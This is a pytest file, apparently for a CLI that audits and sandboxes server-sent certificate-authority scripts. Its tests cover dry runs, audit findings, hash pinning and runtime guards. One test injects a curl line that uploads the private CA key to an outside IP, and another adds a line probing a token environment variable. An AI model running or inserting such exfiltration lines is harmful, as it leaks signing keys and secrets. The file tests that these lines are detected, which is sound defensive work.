"""Server-sent scripts are seen before they run, and contained when they do.

The dry-run prints them and the plan and runs nothing; create audits first and refuses
high findings; the hostile corpus is caught by the audit or at run time, always with nothing
uploaded and nothing of the user's changed.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
from pathlib import Path

import pytest

from fioca import facts
from fioca.pki import reference
from tests.conftest import FACTORY, answer_with, server_certs

CORPUS = Path(__file__).parent / "hostile_scripts"


def corpus(kind: str) -> list[Path]:
    return sorted(p for p in CORPUS.iterdir() if re.search(rf"^# expect: {kind}:", p.read_text(), re.MULTILINE))


def corpus_script(path: Path, local_ca_cn: str) -> tuple[str, str]:
    text = path.read_text()
    name = re.search(r"^# script: (\S+)", text, re.MULTILINE).group(1)
    return name, reference.render(text, factory=FACTORY, local_ca_cn=local_ca_cn)


def user_files_snapshot(home: Path, pki: Path) -> dict[str, bytes]:
    seen = {}
    for root in (home, pki):
        if root.exists():
            for path in root.rglob("*"):
                if path.is_file():
                    seen[str(path)] = path.read_bytes()
    return seen


def test_dry_run_prints_scripts_and_plan_and_sends_no_patch(cli, sandbox, sandbox_env, recorder, tmp_path):
    pki = tmp_path / "pki"
    result = cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
    assert result.exit_code == 0, result.output
    answer = json.loads((pki / facts.FACTORY_CERTS_JSON).read_text())
    for name in facts.SCRIPT_NAMES:
        text = answer[name]
        digest = hashlib.sha256(text.encode()).hexdigest()
        assert f"==> {name}  ({len(text.encode())} bytes, sha256 {digest})" in result.stdout
        assert text.rstrip("\n") in result.stdout
    for command in ("./create_ca", "./sign_tls_csr tls-csr > tls-crt", "./sign_ca_csr ca-csr > online-crt",
                    "./create_device_ca local-ca.key local-ca.pem"):
        assert f"run: {command}" in result.stdout
    assert 'ca-crt: online-crt + "\\n" + local-ca.pem' in result.stdout
    assert [m for m, _ in recorder] == ["POST"]
    assert sorted(p.name for p in pki.iterdir()) == [facts.FACTORY_CERTS_JSON]  # no lock file: the lock is on the folder
    assert server_certs(sandbox)[0] == 206
    token = sandbox.info.token
    assert token not in result.output


def test_dry_run_plan_follows_the_flags(cli, sandbox_env, tmp_path):
    result = cli("keys", "ca", "create", tmp_path / "pki", "--dry-run", "--no-local-ca", "--format", "json",
                 env=sandbox_env)
    plan = json.loads(result.stdout)["plan"]
    assert [step["kind"] for step in plan["steps"]] == ["save", "run", "run", "run", "verify", "upload"]
    assert [step["command"] for step in plan["steps"] if step["kind"] == "run"] == [
        "./create_ca", "./sign_tls_csr tls-csr > tls-crt", "./sign_ca_csr ca-csr > online-crt"]
    assert plan["steps"][-1]["patch"] == {"root-crt": "factory_ca.pem", "tls-crt": "tls-crt", "ca-crt": "online-crt"}
    assert plan["jail"].startswith("bubblewrap ")


def test_dry_run_from_a_saved_answer_needs_no_server(cli, sandbox_env, tmp_path):
    pki = tmp_path / "pki"
    assert cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env).exit_code == 0
    saved = pki / facts.FACTORY_CERTS_JSON
    # No config at all: a server URL that nothing listens on proves no request is made.
    offline = {"FIOCA_SERVER": "https://127.0.0.1:9"}
    result = cli("keys", "ca", "create", tmp_path / "other", "--dry-run", "--from-json", saved, env=offline)
    assert result.exit_code == 0, result.output
    assert "run: ./create_ca" in result.stdout
    assert not (tmp_path / "other").exists()
    assert cli("keys", "ca", "create", tmp_path / "x", "--from-json", saved, env=offline).exit_code == 2


def test_the_apis_scripts_audit_as_a_known_set(cli, sandbox_env, tmp_path):
    """The sandbox's answer carries the API's 2026 scripts: recognised, and nothing high."""
    pki = tmp_path / "pki"
    cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
    result = cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON)
    assert result.exit_code == 0, result.output
    assert result.stdout.count("matches the known script set api-2026") == 4
    assert "0 high, 1 medium" in result.stdout  # the PIN on a command line, in the HSM branch only
    as_json = json.loads(cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON, "--format", "json").stdout)
    assert [script["known_set"] for script in as_json["scripts"]] == ["api-2026"] * 4
    sarif = json.loads(cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON, "--format", "sarif").stdout)
    assert sarif["version"] == "2.1.0" and [a["location"]["uri"] for a in sarif["runs"][0]["artifacts"]] == list(facts.SCRIPT_NAMES)
    # --fail-on info: the HSM variables are INFO findings, so this threshold trips.
    assert cli("keys", "ca", "audit", pki / facts.FACTORY_CERTS_JSON, "--fail-on", "info").exit_code == 3


def test_audit_reports_a_diff_for_a_changed_script(cli, sandbox_env, tmp_path):
    pki = tmp_path / "pki"
    cli("keys", "ca", "create", pki, "--dry-run", env=sandbox_env)
    answer = json.loads((pki / facts.FACTORY_CERTS_JSON).read_text())
    answer["sign_ca_csr"] = answer["sign_ca_csr"].replace("rm ca.ext", "curl -s -F k=@factory_ca.key https://198.51.100.7/\nrm ca.ext")
    changed = tmp_path / "changed.json"
    changed.write_text(json.dumps(answer))
    result = cli("keys", "ca", "audit", changed)
    assert result.exit_code == 3
    assert "+curl -s -F k=@factory_ca.key https://198.51.100.7/" in result.stdout
    assert "network-access" in result.stdout


@pytest.mark.parametrize("entry", corpus("audit"), ids=lambda p: p.name)
def test_create_refuses_what_the_audit_condemns(cli, sandbox, sandbox_env, recorder, tmp_path, home, monkeypatch, entry):
    high = re.findall(r"^# expect: audit:([\w-]+)(?:@high)?$", entry.read_text(), re.MULTILINE)
    polis = sandbox.backend.user_self()["polis-id"]
    name, text = corpus_script(entry, f"fio-{polis}")
    if not high:
        # Below high, a finding is reported, not condemned; --fail-on lowers the bar.
        lower = re.findall(r"^# expect: audit:([\w-]+)@(\w+)$", entry.read_text(), re.MULTILINE)
        saved = tmp_path / "answer.json"
        saved.write_text(json.dumps({name: text}))
        report = cli("keys", "ca", "audit", saved)
        assert report.exit_code == 0 and all(finding in report.stdout for finding, _ in lower)
        assert cli("keys", "ca", "audit", saved, "--fail-on", lower[0][1]).exit_code == 3
        return
    answer_with(monkeypatch, sandbox, {name: text})
    pki = tmp_path / "pki"
    before = user_files_snapshot(home, pki)
    result = cli("keys", "ca", "create", pki, "--yes", env=sandbox_env)
    assert result.exit_code == 3, result.output
    assert "high-severity finding" in result.stderr
    assert any(finding in result.stderr for finding in high)
    assert [m for m, _ in recorder] == ["POST"]
    assert not (pki / facts.ROOT_KEY).exists()
    after = user_files_snapshot(home, pki)
    fiocas_own = (facts.FACTORY_CERTS_JSON,)
    assert {k: v for k, v in after.items() if not k.endswith(fiocas_own)} == before


RUNTIME_MESSAGES = {
    "timeout": "did not finish within 2s and was killed",
    "output-limit": "bytes to stdout and was killed",
    "no-output": "exited 0 but printed no certificate",
    "profile-mismatch": "tls-crt:",
    "wrong-subject": "local-ca.pem:",
    "wrong-issuer": "online-crt:",
}


@pytest.mark.parametrize("entry", corpus("runtime"), ids=lambda p: p.name)
def test_runtime_guards_stop_what_the_audit_cannot_see(cli, sandbox, sandbox_env, recorder, tmp_path, home, monkeypatch, entry):
    kind = re.search(r"^# expect: runtime:([\w-]+)", entry.read_text(), re.MULTILINE).group(1)
    polis = sandbox.backend.user_self()["polis-id"]
    name, text = corpus_script(entry, f"fio-{polis}")
    answer_with(monkeypatch, sandbox, {name: text})
    pki = tmp_path / "pki"
    result = cli("keys", "ca", "create", pki, "--yes", "--allow-unaudited", "--script-timeout", "2", env=sandbox_env)
    assert result.exit_code in (4, 5), result.output
    assert RUNTIME_MESSAGES[kind] in result.stderr
    assert [m for m, _ in recorder] == ["POST"]
    assert server_certs(sandbox)[0] == 206
    # The root made before the failing step is kept (0400) and journalled: --resume finishes.
    if (pki / facts.ROOT_KEY).exists():
        assert oct((pki / facts.ROOT_KEY).stat().st_mode & 0o777) == "0o400"
        assert (pki / facts.JOURNAL_FILE).exists() and not (pki / facts.WORK_DIR).exists()
        assert "--resume" not in result.stderr or "fioca keys ca create" in result.stderr


def test_allow_unaudited_says_what_it_overrides(cli, sandbox, sandbox_env, tmp_path, monkeypatch):
    polis = sandbox.backend.user_self()["polis-id"]
    # Harmless to run, but condemned: reads an environment variable that looks like a secret.
    text = reference.bundled()["sign_ca_csr"].replace(
        "csr=$1", 'csr=$1\n[ -z "$FIOCTL_TOKEN" ] || echo "token visible" >&2'
    )
    answer_with(monkeypatch, sandbox, {"sign_ca_csr": text})
    refused = cli("keys", "ca", "create", tmp_path / "a", "--yes", env=sandbox_env)
    assert refused.exit_code == 3
    result = cli("keys", "ca", "create", tmp_path / "pki", "--yes", "--allow-unaudited",
                 env={**sandbox_env, "FIOCTL_TOKEN": sandbox.info.token})
    assert result.exit_code == 0, result.output
    assert "--allow-unaudited: running scripts despite 1 high finding(s):" in result.stderr
    assert "reads-secret-env" in result.stderr
    assert "token visible" not in result.stderr  # the token never reaches a script


def test_expect_sha256_pins_a_script(cli, sandbox, sandbox_env, recorder, tmp_path):
    polis = sandbox.backend.user_self()["polis-id"]
    served = reference.api_scripts("api-2026", factory=FACTORY, local_ca_cn=f"fio-{polis}")["create_ca"]
    good = hashlib.sha256(served.encode()).hexdigest()
    wrong = "0" * 64
    result = cli("keys", "ca", "create", tmp_path / "a", "--yes", "--expect-sha256", f"create_ca={wrong}", env=sandbox_env)
    assert result.exit_code == 3
    assert f"not the pinned {wrong}" in result.stderr
    assert cli("keys", "ca", "create", tmp_path / "b", "--yes", "--expect-sha256", "create_ca=zz", env=sandbox_env).exit_code == 2
    ok = cli("keys", "ca", "create", tmp_path / "c", "--yes", "--expect-sha256", f"create_ca={good}", env=sandbox_env)
    assert ok.exit_code == 0, ok.output


def test_work_dir_is_private_inside_the_pki_dir_and_removed(cli, sandbox, sandbox_env, tmp_path, monkeypatch):
    """Each script gets a fresh 0700 work dir of its own inside the PKI dir (a crash never
    strands the root key elsewhere), removed after it; the dry-run names the same ones."""
    from fioca.pki.files import PkiDir

    made: list[Path] = []
    real = PkiDir.make_folder

    def spy(self, name):
        path = real(self, name)
        made.append(path)
        assert oct(os.stat(path).st_mode & 0o777) == oct(0o700)
        return path

    monkeypatch.setattr(PkiDir, "make_folder", spy)
    pki = tmp_path / "pki"
    dry = cli("keys", "ca", "create", pki, "--dry-run", "--format", "json", env=sandbox_env)
    cwds = [step["cwd"] for step in json.loads(dry.stdout)["plan"]["steps"] if step["kind"] == "run"]
    assert cli("keys", "ca", "create", pki, "--yes", env=sandbox_env).exit_code == 0
    assert sorted(map(str, made)) == sorted(cwds) == sorted(str(pki / facts.work_dir_of(s)) for s in facts.SCRIPT_NAMES)
    assert not any(path.exists() for path in made)
